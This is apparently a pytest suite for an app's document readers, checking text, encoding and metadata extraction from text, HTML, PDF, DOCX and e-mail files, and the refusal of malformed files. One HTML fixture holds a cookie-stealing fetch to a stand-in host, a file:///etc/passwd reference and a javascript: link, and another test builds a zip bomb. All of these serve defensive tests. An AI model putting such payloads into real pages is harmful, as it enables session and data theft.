"""Per-format readers: what each file type yields, and why a bad file is refused."""

from __future__ import annotations

import codecs
import datetime as dt
import io
import os
import pathlib
import random
import re
import socket
import zipfile
from email.message import EmailMessage

import docx
import pytest
from fpdf import FPDF
from fpdf.enums import EncryptionMethod

from timeline_app.core.readers import SUPPORTED_SUFFIXES, ReadError, read_file

SEEDS = pathlib.Path(__file__).resolve().parents[2] / "seeds"

CURLY = "The union’s “day of action” began at 10.30am."


def write(tmp_path: pathlib.Path, name: str, data: bytes) -> pathlib.Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def read_error(path: pathlib.Path, **kwargs: int) -> str:
    with pytest.raises(ReadError) as caught:
        read_file(path, **kwargs)
    return str(caught.value)


def make_pdf(
    tmp_path: pathlib.Path,
    pages: list[str],
    *,
    name: str = "doc.pdf",
    title: str | None = None,
    author: str | None = None,
    created: dt.datetime | None = None,
    user_password: str | None = None,
    owner_password: str | None = None,
) -> pathlib.Path:
    pdf = FPDF()
    pdf.set_font("Helvetica", size=12)
    if title:
        pdf.set_title(title)
    if author:
        pdf.set_author(author)
    pdf.set_creation_date(created or dt.datetime(2020, 1, 1, tzinfo=dt.timezone.utc))
    if owner_password is not None:
        pdf.set_encryption(
            owner_password=owner_password,
            user_password=user_password,
            encryption_method=EncryptionMethod.RC4,
        )
    for text in pages:
        pdf.add_page()
        if text:
            pdf.multi_cell(0, 10, text)
        else:
            pdf.rect(20, 20, 50, 50)  # a page with a drawing and no text
    path = tmp_path / name
    pdf.output(str(path))
    return path


def make_docx(
    tmp_path: pathlib.Path,
    paragraphs: list[str],
    *,
    table: list[list[str]] | None = None,
    title: str | None = None,
    author: str | None = None,
    created: dt.datetime | None = None,
) -> pathlib.Path:
    document = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if table:
        grid = document.add_table(rows=len(table), cols=len(table[0]))
        for row, values in zip(grid.rows, table):
            for cell, value in zip(row.cells, values):
                cell.text = value
    properties = document.core_properties
    properties.title = title or ""
    properties.author = author or ""
    properties.created = created or dt.datetime(2000, 1, 1)
    path = tmp_path / "doc.docx"
    document.save(str(path))
    return path


def make_eml(
    tmp_path: pathlib.Path,
    *,
    subject: str = "Walkout on Tuesday",
    sender: str = "NUS Press Office <press@nus.org.uk>",
    date: str | None = "Tue, 07 Feb 2017 16:47:00 +0000",
    plain: str | None = None,
    html: str | None = None,
    charset: str = "utf-8",
) -> pathlib.Path:
    message = EmailMessage()
    message["Subject"] = subject
    message["From"] = sender
    message["To"] = "newsdesk@example.org"
    if date is not None:
        message["Date"] = date
    if plain is not None:
        message.set_content(plain, charset=charset, cte="8bit" if charset != "utf-8" else None)
    if html is not None:
        if plain is None:
            message.set_content(html, subtype="html")
        else:
            message.add_alternative(html, subtype="html")
    return write(tmp_path, "mail.eml", message.as_bytes())


# --- the public surface -------------------------------------------------------


def test_supported_suffixes_are_the_formats_the_pipeline_imports():
    assert SUPPORTED_SUFFIXES == {
        ".txt", ".md", ".markdown", ".html", ".htm", ".pdf", ".docx", ".eml",
    }


# --- plain text and encodings -------------------------------------------------


@pytest.mark.parametrize("seed", sorted(SEEDS.glob("*.txt")), ids=lambda p: p.name)
def test_seeds_read_back_exactly_as_written(seed):
    document = read_file(seed)

    assert document.text == seed.read_bytes().decode("utf-8")
    assert document.format == "txt"


def test_seed_curly_quotes_survive_without_mojibake():
    text = read_file(SEEDS / "001_fd522c965bac0882.txt").text

    assert "government’s “complicity” with Donald Trump’s “racist agenda”" in text
    assert "â€" not in text


def test_utf8_with_byte_order_mark_loses_only_the_mark(tmp_path):
    path = write(tmp_path, "bom.txt", codecs.BOM_UTF8 + CURLY.encode("utf-8"))

    assert read_file(path).text == CURLY


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_with_byte_order_mark_is_decoded(tmp_path, encoding):
    bom = codecs.BOM_UTF16_LE if encoding.endswith("le") else codecs.BOM_UTF16_BE
    path = write(tmp_path, "wide.txt", bom + CURLY.encode(encoding))

    assert read_file(path).text == CURLY


@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
def test_utf16_without_byte_order_mark_is_recognised_by_its_nul_pattern(tmp_path, encoding):
    path = write(tmp_path, "wide.txt", (CURLY + "\r\nSecond line.").encode(encoding))

    assert read_file(path).text == CURLY + "\nSecond line."


def test_windows_1252_curly_quotes_decode_to_real_quotes(tmp_path):
    path = write(tmp_path, "old.txt", (CURLY + " Students’ café closed.").encode("cp1252"))

    assert read_file(path).text == CURLY + " Students’ café closed."


def test_mostly_utf8_file_with_a_stray_windows_1252_quote_keeps_both(tmp_path):
    data = "Students’ café — walkout.".encode("utf-8") + b" It\x92s on."
    path = write(tmp_path, "mixed.txt", data)

    assert read_file(path).text == "Students’ café — walkout. It’s on."


def test_invalid_utf8_bytes_do_not_stop_the_import(tmp_path):
    path = write(tmp_path, "bad.txt", b"Walkout on 7 February 2017 \xc3\x28 at noon\xff.")

    text = read_file(path).text

    assert text.startswith("Walkout on 7 February 2017 ")
    assert "at noon" in text


def test_windows_and_old_mac_newlines_become_plain_newlines(tmp_path):
    path = write(tmp_path, "crlf.txt", b"one\r\ntwo\rthree\n")

    assert read_file(path).text == "one\ntwo\nthree\n"


def test_nul_bytes_inside_text_are_stripped_not_fatal(tmp_path):
    path = write(tmp_path, "nul.txt", b"Students walk\x00 out\x00\x00 today.")

    assert read_file(path).text == "Students walk out today."


def test_random_binary_data_is_refused_as_not_text(tmp_path):
    path = write(tmp_path, "noise.txt", random.Random(7).randbytes(8192))

    assert read_error(path) == "not a text file (binary data)"


def test_file_of_only_nul_bytes_is_refused_as_not_text(tmp_path):
    path = write(tmp_path, "zeros.txt", bytes(4096))

    assert read_error(path) == "not a text file (binary data)"


def test_whitespace_only_text_has_no_text(tmp_path):
    path = write(tmp_path, "blank.txt", b" \n\n\t \r\n")

    assert read_error(path) == "no text found"


# --- markdown -----------------------------------------------------------------


def test_markdown_keeps_first_heading_as_title_and_drops_syntax(tmp_path):
    source = (
        "# Students walk out\n\n"
        "The **NUS** called a *national* walkout; see [the statement](http://x.org/s).\n"
        "## Background\n"
        "Variable snake_case_name and 2*3*4 stay as written.\n"
    )
    path = write(tmp_path, "post.md", source.encode("utf-8"))

    document = read_file(path)

    assert document.format == "md"
    assert document.title == "Students walk out"
    assert document.text == (
        "Students walk out\n\n"
        "The NUS called a national walkout; see the statement.\n"
        "Background\n"
        "Variable snake_case_name and 2*3*4 stay as written.\n"
    )


def test_markdown_front_matter_gives_title_and_date(tmp_path):
    source = (
        '---\ntitle: "Open letter to the NUS"\ndate: 2024-05-03\n---\nWe, the undersigned…\n'
    )
    path = write(tmp_path, "letter.markdown", source.encode("utf-8"))

    document = read_file(path)

    assert (document.title, document.published) == ("Open letter to the NUS", "2024-05-03")
    assert document.text == "We, the undersigned…\n"


# --- failures every format shares -----------------------------------------------


def test_unsupported_suffix_is_named(tmp_path):
    path = write(tmp_path, "sheet.xyz", b"data")

    assert read_error(path) == "unsupported file type .xyz"


def test_zero_byte_file_is_empty(tmp_path):
    path = write(tmp_path, "nothing.pdf", b"")

    assert read_error(path) == "empty file"


def test_file_over_the_default_limit_says_its_size_and_the_limit(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as stream:
        stream.truncate(int(61.2 * 1024 * 1024))  # sparse: no disk or time spent

    assert read_error(path) == "too large: 61.2 MB, limit is 50 MB"


def test_single_long_line_is_read_when_within_the_limit(tmp_path):
    line = ("walkout " * 40_000).encode("ascii")  # one 320 kB line, no newline
    path = write(tmp_path, "line.txt", line)

    assert read_file(path, max_bytes=len(line)).text == line.decode("ascii")
    assert read_error(path, max_bytes=300 * 1024) == "too large: 312.5 KB, limit is 300 KB"


def test_unreadable_file_reports_permission_denied(tmp_path, monkeypatch):
    path = write(tmp_path, "secret.txt", b"text")

    def refuse(self, *args, **kwargs):
        raise PermissionError(13, "Permission denied", str(self))

    # Tests run as root in CI, where chmod cannot take read access away.
    monkeypatch.setattr(pathlib.Path, "open", refuse)

    assert read_error(path) == "cannot read file: permission denied"


def test_missing_file_is_reported_not_raised(tmp_path):
    assert read_error(tmp_path / "gone.txt") == "cannot read file: file not found"


def test_folder_with_a_document_suffix_is_refused(tmp_path):
    (tmp_path / "notes.txt").mkdir()

    assert read_error(tmp_path / "notes.txt") == "cannot read file: it is a folder"


def test_named_pipe_is_refused_without_blocking(tmp_path):
    os.mkfifo(tmp_path / "pipe.txt")

    assert read_error(tmp_path / "pipe.txt") == "cannot read file: not a regular file"


def test_library_failure_becomes_a_read_error_naming_the_format(tmp_path, monkeypatch):
    import timeline_app.core.readers.html as html_reader

    def explode(*args, **kwargs):
        raise RuntimeError("internal parser state\nmore detail")

    monkeypatch.setattr(html_reader.trafilatura, "bare_extraction", explode)
    path = write(tmp_path, "page.html", b"<html><body><p>Walkout today.</p></body></html>")

    assert read_error(path) == "cannot read HTML file: internal parser state more detail"


def test_running_out_of_memory_is_not_disguised_as_a_bad_file(tmp_path, monkeypatch):
    import timeline_app.core.readers.html as html_reader

    def exhaust(*args, **kwargs):
        raise MemoryError

    monkeypatch.setattr(html_reader.trafilatura, "bare_extraction", exhaust)
    path = write(tmp_path, "page.html", b"<html><body><p>Walkout today.</p></body></html>")

    with pytest.raises(MemoryError):
        read_file(path)


# --- HTML -----------------------------------------------------------------------

ARTICLE_HTML = """<!DOCTYPE html>
<html><head>
<meta charset="utf-8">
<title>Students walk out over fees | Campus News</title>
<meta property="og:site_name" content="Campus News">
<meta property="article:published_time" content="2017-02-07T16:47:00+00:00">
<style>body { color: red; } .hidden-style-marker {}</style>
<script>var trackingMarker = "do-not-import";</script>
</head><body>
<nav><a href="/">Home</a> <a href="/news">News menu link</a></nav>
<article>
<h1>Students walk out over fees</h1>
<p>Thousands of students walked out of lectures on Tuesday in protest at the
government’s “complicity” with the fee rise, the National Union of Students said.</p>
<p>The walkout began at 10.30am and was organised by the NUS International
Students’ Campaign together with campus unions across the country.</p>
<p>Organisers said further action would follow in March if ministers refused to meet them.</p>
</article>
<footer>Copyright footer text</footer>
</body></html>"""


def test_html_main_text_comes_without_navigation_scripts_or_styles(tmp_path):
    path = write(tmp_path, "article.html", ARTICLE_HTML.encode("utf-8"))

    document = read_file(path)

    assert document.format == "html"
    assert "government’s “complicity” with the fee rise" in document.text
    assert "further action would follow in March" in document.text
    for unwanted in ("trackingMarker", "do-not-import", "color: red", "News menu link"):
        assert unwanted not in document.text


def test_html_metadata_gives_title_publisher_and_published_day(tmp_path):
    path = write(tmp_path, "article.htm", ARTICLE_HTML.encode("utf-8"))

    document = read_file(path)

    assert document.title == "Students walk out over fees"
    assert document.source == "Campus News"
    assert document.published == "2017-02-07"


def test_html_time_element_gives_the_published_day(tmp_path):
    page = (
        "<html><head><title>Letter</title></head><body><article>"
        '<p>Published <time datetime="2016-09-22">22 September 2016</time></p>'
        "<p>UK universities launched the We Are International campaign to welcome "
        "students and scholars from around the world after the referendum.</p>"
        "</article></body></html>"
    )
    path = write(tmp_path, "letter.html", page.encode("utf-8"))

    assert read_file(path).published == "2016-09-22"


def test_very_short_html_page_still_yields_its_text(tmp_path):
    path = write(tmp_path, "short.html", b"<html><body><p>Walkout at noon.</p></body></html>")

    assert read_file(path).text == "Walkout at noon."


def test_html_without_visible_text_has_no_text(tmp_path):
    page = b"<html><head><script>alert(1)</script></head><body><img src='a.png'></body></html>"
    path = write(tmp_path, "empty.html", page)

    assert read_error(path) == "no text found"


HOSTILE_HTML = """<html><head><title>Hostile</title>
<script>document.write("script-payload-marker")</script></head><body>
<iframe src="http://example.invalid/frame">iframe-payload-marker</iframe>
<img src="file:///etc/passwd">
<a href="javascript:alert('js-link-marker')">Click here for the letter</a>
<p>More than 180 elected officers signed an open letter to the union board demanding
meaningful action, and said they would otherwise disaffiliate from the national body.</p>
<script>fetch("http://example.invalid/steal?x=" + document.cookie)</script>
</body></html>"""


def test_hostile_html_imports_its_text_without_running_or_loading_anything(tmp_path, monkeypatch):
    def no_network(*args, **kwargs):
        raise AssertionError("reader tried to open a network connection")

    monkeypatch.setattr(socket, "socket", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    path = write(tmp_path, "hostile.html", HOSTILE_HTML.encode("utf-8"))

    text = read_file(path).text

    assert "180 elected officers signed an open letter" in text
    for marker in ("script-payload-marker", "iframe-payload-marker", "document.cookie",
                   "alert(", "root:"):
        assert marker not in text


def test_ten_thousand_nested_tags_keep_the_text_around_them(tmp_path):
    page = (
        "<html><body><p>Before the nesting.</p>"
        + "<div>" * 10_000 + "<p>Deep inside.</p>" + "</div>" * 10_000
        + "<p>After the nesting.</p><script>nested-script-marker</script></body></html>"
    )
    path = write(tmp_path, "deep.html", page.encode("ascii"))

    text = read_file(path).text

    assert "Before the nesting." in text
    assert "Deep inside." in text
    assert "After the nesting." in text
    assert "nested-script-marker" not in text


def test_html_declaring_latin1_but_written_in_utf8_reads_as_utf8(tmp_path):
    page = (
        '<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1">'
        f"</head><body><p>{CURLY}</p></body></html>"
    )
    path = write(tmp_path, "wrong.html", page.encode("utf-8"))

    assert read_file(path).text == CURLY


def test_html_declaring_utf8_but_written_in_windows_1252_reads_its_quotes(tmp_path):
    page = f'<html><head><meta charset="utf-8"></head><body><p>{CURLY}</p></body></html>'
    path = write(tmp_path, "wrong.html", page.encode("cp1252"))

    assert read_file(path).text == CURLY


def test_html_correctly_declaring_a_single_byte_charset_is_respected(tmp_path):
    page = (
        '<html><head><meta charset="iso-8859-7"></head>'
        "<body><p>Η ένωση φοιτητών.</p></body></html>"
    )
    path = write(tmp_path, "greek.html", page.encode("iso-8859-7"))

    assert read_file(path).text == "Η ένωση φοιτητών."


# --- PDF ----------------------------------------------------------------------


def test_pdf_text_of_every_page_and_its_info_dictionary(tmp_path):
    path = make_pdf(
        tmp_path,
        ["Students walk out in solidarity with migrants.", "The NUS supports the action."],
        title="Walkout press release",
        author="NUS Press Office",
        created=dt.datetime(2015, 11, 17, 9, 30, tzinfo=dt.timezone.utc),
    )

    document = read_file(path)

    assert document.format == "pdf"
    assert "Students walk out in solidarity with migrants." in document.text
    assert "The NUS supports the action." in document.text
    assert (document.title, document.source, document.published) == (
        "Walkout press release", "NUS Press Office", "2015-11-17",
    )


def test_pdf_with_broken_cross_reference_table_is_recovered(tmp_path):
    path = make_pdf(tmp_path, ["Open letter to the board of directors."])
    data = path.read_bytes()
    damaged = re.sub(rb"startxref\s+\d+", b"startxref\n999999", data)
    damaged = re.sub(rb"xref\n0 \d+", b"xref\n0 999", damaged, count=1)
    assert damaged != data
    path.write_bytes(damaged)

    assert "Open letter to the board of directors." in read_file(path).text


def test_file_that_is_not_a_pdf_is_corrupt(tmp_path):
    path = write(tmp_path, "fake.pdf", b"Just some words in a file named like a PDF.")

    assert read_error(path) == "corrupt or unreadable PDF: not a PDF file"


def test_truncated_pdf_is_corrupt_with_the_reason(tmp_path):
    data = make_pdf(tmp_path, ["Open letter to the board of directors."]).read_bytes()
    path = write(tmp_path, "cut.pdf", data[: len(data) // 2])

    assert read_error(path).startswith("corrupt or unreadable PDF: ")


def test_password_protected_pdf_is_reported_as_encrypted(tmp_path):
    path = make_pdf(
        tmp_path, ["Confidential minutes."], owner_password="own", user_password="secret"
    )

    assert read_error(path) == "PDF is encrypted"


def test_pdf_locked_only_against_editing_is_read(tmp_path):
    path = make_pdf(tmp_path, ["Minutes of the emergency meeting."], owner_password="own")

    assert "Minutes of the emergency meeting." in read_file(path).text


def test_pdf_of_drawings_only_has_no_text(tmp_path):
    path = make_pdf(tmp_path, [""])

    assert read_error(path) == "no text found"


# --- DOCX ---------------------------------------------------------------------


def test_docx_paragraphs_tables_and_core_properties(tmp_path):
    path = make_docx(
        tmp_path,
        ["Students will walk out on Tuesday.", "The union backs the action."],
        table=[["Campus", "Time"], ["Leeds", "10.30am"]],
        title="Walkout notice",
        author="Students’ Union",
        created=dt.datetime(2017, 2, 7, 16, 47),
    )

    document = read_file(path)

    assert document.format == "docx"
    assert document.text == (
        "Students will walk out on Tuesday.\nThe union backs the action.\n"
        "Campus\tTime\nLeeds\t10.30am"
    )
    assert (document.title, document.source, document.published) == (
        "Walkout notice", "Students’ Union", "2017-02-07",
    )


def test_file_that_is_not_a_zip_is_not_a_valid_word_file(tmp_path):
    path = write(tmp_path, "fake.docx", b"This is a plain text file pretending to be Word.")

    assert read_error(path) == "corrupt DOCX: not a valid Word file"


def test_zip_without_a_word_document_is_not_a_valid_word_file(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    path = write(tmp_path, "other.docx", buffer.getvalue())

    assert read_error(path) == "corrupt DOCX: not a valid Word file"


def test_docx_zip_bomb_is_refused_before_expanding(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", bytes(5 * 1024 * 1024))
    path = write(tmp_path, "bomb.docx", buffer.getvalue())
    assert path.stat().st_size < 64 * 1024

    # The expansion limit is four times the file-size limit: 4 MB here.
    assert read_error(path, max_bytes=1024 * 1024) == (
        "DOCX expands to over 4 MB (possible zip bomb)"
    )


# --- e-mail ---------------------------------------------------------------------


def test_eml_subject_date_sender_and_plain_body(tmp_path):
    path = make_eml(tmp_path, plain=CURLY + "\nSee you there.\n")

    document = read_file(path)

    assert document.format == "eml"
    assert document.text == CURLY + "\nSee you there."
    assert (document.title, document.published, document.source) == (
        "Walkout on Tuesday", "2017-02-07", "NUS Press Office",
    )


def test_eml_prefers_the_plain_part_of_an_alternative(tmp_path):
    path = make_eml(
        tmp_path,
        plain="Plain version of the notice.",
        html="<html><body><p>HTML version of the notice.</p></body></html>",
    )

    assert read_file(path).text == "Plain version of the notice."


def test_html_only_eml_body_goes_through_html_text_extraction(tmp_path):
    html = (
        "<html><head><script>var emailScriptMarker = 1;</script></head><body>"
        "<p>The occupation of the library continues into its second week.</p></body></html>"
    )
    path = make_eml(tmp_path, html=html)

    text = read_file(path).text

    assert text == "The occupation of the library continues into its second week."


def test_eml_with_malformed_date_still_imports_without_a_date(tmp_path):
    path = make_eml(tmp_path, date="Tuesday the 45th of Smarch", plain="Walkout at noon.")

    document = read_file(path)

    assert (document.text, document.published) == ("Walkout at noon.", None)


def test_eml_sender_without_display_name_is_known_by_domain(tmp_path):
    path = make_eml(tmp_path, sender="press@nus.org.uk", plain="Walkout at noon.")

    assert read_file(path).source == "nus.org.uk"


def test_eml_body_in_windows_1252_keeps_its_quotes(tmp_path):
    path = make_eml(tmp_path, plain=CURLY, charset="cp1252")

    assert read_file(path).text == CURLY


def test_binary_file_named_eml_is_not_text(tmp_path):
    path = write(tmp_path, "noise.eml", random.Random(3).randbytes(4096))

    assert read_error(path) == "not a text file (binary data)"
